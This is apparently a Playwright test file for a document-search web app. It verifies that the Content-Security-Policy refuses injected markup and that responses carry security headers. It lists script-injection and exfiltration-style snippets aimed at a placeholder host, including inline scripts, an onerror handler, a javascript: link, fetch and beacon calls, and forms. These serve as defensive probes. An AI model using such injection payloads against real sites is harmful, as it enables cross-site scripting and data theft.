"""The Content-Security-Policy behind it all: were there a hole in how pages show text, nothing could be done through it."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import expect

from rag import ingest, library
from rag.deps import Deps
from tests.browser import papers
from tests.browser.conftest import Visit

ELSEWHERE = "http://canary.invalid"
# What a page may be made to do when markup gets in, and the directive that is to stop it.
TRIES = {
    "an inline script": ("script-src-elem", "const s = document.createElement('script'); s.textContent = 'window.hostile = 1'; document.body.append(s)"),
    "a script from elsewhere": ("script-src-elem", f"const s = document.createElement('script'); s.src = '{ELSEWHERE}/s.js'; document.body.append(s)"),
    "a handler in an attribute": ("script-src-attr", "document.body.insertAdjacentHTML('beforeend', '<img src=/none.png onerror=\"window.hostile = 2\">')"),
    "text as code": ("script-src", "try { setTimeout('window.hostile = 3') } catch { }"),
    "a javascript address": ("script-src-elem", "const a = document.createElement('a'); a.href = 'javascript:window.hostile=4'; document.body.append(a); a.click()"),
    "a picture from elsewhere": ("img-src", f"new Image().src = '{ELSEWHERE}/p.png'"),
    "a request to elsewhere": ("connect-src", f"fetch('{ELSEWHERE}/f').catch(() => 0)"),
    "a socket to elsewhere": ("connect-src", "try { new WebSocket('ws://canary.invalid/') } catch { }"),
    "a beacon": ("connect-src", f"navigator.sendBeacon('{ELSEWHERE}/b', 'x')"),
    "a style from elsewhere": ("style-src-elem", f"const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '{ELSEWHERE}/c.css'; document.head.append(l)"),
    "an import in a style": ("style-src-elem", f"const s = document.createElement('style'); s.textContent = '@import url({ELSEWHERE}/i.css)'; document.head.append(s)"),
    "a font from elsewhere": ("font-src", f"new FontFace('x', 'url({ELSEWHERE}/f.woff2)').load().catch(() => 0)"),
    "a frame": ("frame-src", f"const f = document.createElement('iframe'); f.src = '{ELSEWHERE}/'; document.body.append(f)"),
    "a frame of our own": ("frame-src", "const f = document.createElement('iframe'); f.src = '/usage'; document.body.append(f)"),
    "an object": ("object-src", f"const o = document.createElement('object'); o.data = '{ELSEWHERE}/o'; document.body.append(o)"),
    "a form": ("form-action", f"const f = document.createElement('form'); f.action = '{ELSEWHERE}/f'; document.body.append(f); f.submit()"),
    "another base": ("base-uri", f"const b = document.createElement('base'); b.href = '{ELSEWHERE}/'; document.head.append(b)"),
}  # fmt: skip
PATHS = ("/", "/documents", "/_stcore/health", "/readyz", "/favicon.png", "/static/none.js", "/media/none.pdf", "/none")


def test_what_markup_could_do_is_refused(
    deps: Deps, pages: Callable[[str], str], visit: Callable[..., Visit], subtests: pytest.Subtests
) -> None:
    window = visit(pages("quotes"))
    page = window.go()
    expect(page.get_by_text("Ask your documents")).to_be_visible()
    for name, (directive, attempt) in TRIES.items():
        with subtests.test(name):
            page.evaluate(
                """() => { window.refused = new Promise((resolve) => {
                     document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true }) }) }"""
            )
            page.evaluate(f"() => {{ {attempt} }}")
            assert page.evaluate("window.refused") == directive
            assert page.evaluate("window.hostile") is None


def test_every_response_carries_the_policy(
    deps: Deps, pages: Callable[[str], str], visit: Callable[..., Visit], subtests: pytest.Subtests
) -> None:
    window = visit(pages("quotes"))
    for path in PATHS:
        with subtests.test(path):
            answered = window.page.request.get(f"{window.address}{path}")
            policy = answered.headers["content-security-policy"]
            assert "'unsafe-eval'" not in policy
            for directive in ("frame-ancestors 'none'", "object-src 'none'", "base-uri 'none'", "form-action 'self'"):
                assert directive in policy
            assert answered.headers["x-content-type-options"] == "nosniff"
            assert answered.headers["cross-origin-opener-policy"] == "same-origin"
            assert "camera=()" in answered.headers["permissions-policy"]


def test_a_page_in_use_breaks_none_of_it(deps: Deps, pages: Callable[[str], str], visit: Callable[..., Visit]) -> None:
    upload = library.upload(deps, "local", filename="lighthouse.pdf", content=papers.report())
    ingest.index(deps, "local", upload.document_id)
    window = visit(pages("quotes"))
    window.page.add_init_script("""window.broken = []
        document.addEventListener("securitypolicyviolation", (event) => window.broken.push(`${event.violatedDirective} ${event.blockedURI}`))""")
    page = window.go("chat")
    window.ask("What was the operating profit in 2031?")
    page.locator("button.cite").first.click()
    expect(page.locator("mark")).to_be_visible()
    assert page.evaluate("window.broken") == []
    for path in ("documents", "inspector?q=profit", "evaluation", "usage"):
        window.go(path)
        expect(page.locator("[data-testid=stMain] h1").first).to_be_visible()
        assert page.evaluate("window.broken") == []
    assert window.elsewhere == []
    assert window.errors == []
